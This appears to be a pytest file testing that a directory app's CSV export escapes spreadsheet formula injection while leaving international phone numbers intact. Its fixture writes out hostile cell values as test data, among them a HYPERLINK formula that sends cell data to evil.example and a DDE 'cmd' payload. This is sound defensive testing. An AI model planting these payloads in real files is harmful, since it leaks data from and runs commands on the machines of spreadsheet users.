"""A researcher opens the CSV downloads in a spreadsheet: no cell runs as a formula, and every phone number
still dials."""

import csv
import io

import pytest

from directory.models import Channel

pytestmark = pytest.mark.usefixtures("loaded_directory")


def channels(client) -> list[dict]:
    return list(csv.DictReader(io.StringIO(client.get("/api/v1/channels.csv").content.decode())))


@pytest.fixture
def booby_trapped_channel(db):
    """A Thai channel whose text, typed by a careless or hostile editor, a spreadsheet would run."""
    channel = Channel.objects.filter(country="TH", kind="tourist_police").first()
    channel.how_to = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    channel.hours = "@SUM(1+1)"
    channel.response_time = "-2+3"
    channel.run_by = "+cmd|' /C calc'!A0"
    channel.passes_to = "\tTab first"
    channel.phone = "+66 2 123 4567"
    channel.save()
    return channel


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(client, booby_trapped_channel):
    row = next(row for row in channels(client) if row["name"] == booby_trapped_channel.name)
    assert row["how_to"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["hours"] == "'@SUM(1+1)"
    assert row["response_time"] == "'-2+3"
    assert row["run_by"] == "'+cmd|' /C calc'!A0"
    assert row["passes_to"] == "'\tTab first"


def test_a_phone_number_in_international_format_is_kept_as_it_dials(client, booby_trapped_channel):
    row = next(row for row in channels(client) if row["name"] == booby_trapped_channel.name)
    assert row["phone"] == "+66 2 123 4567"


def test_the_shipped_international_numbers_download_as_they_are(client, shipped_directory):
    shipped = {c.phone for record in shipped_directory.countries.values() for c in record.channels if c.phone}
    international = {phone for phone in shipped if phone.startswith("+")}
    downloaded = {row["phone"] for row in channels(client)}
    assert international and international & downloaded
    assert not any(phone.startswith("'") for phone in downloaded)


def test_a_phone_column_that_hides_a_formula_is_still_escaped(client, booby_trapped_channel):
    booby_trapped_channel.phone = "+66 2 123=cmd|' /C calc'!A0"
    booby_trapped_channel.save()
    row = next(row for row in channels(client) if row["name"] == booby_trapped_channel.name)
    assert row["phone"] == "'+66 2 123=cmd|' /C calc'!A0"
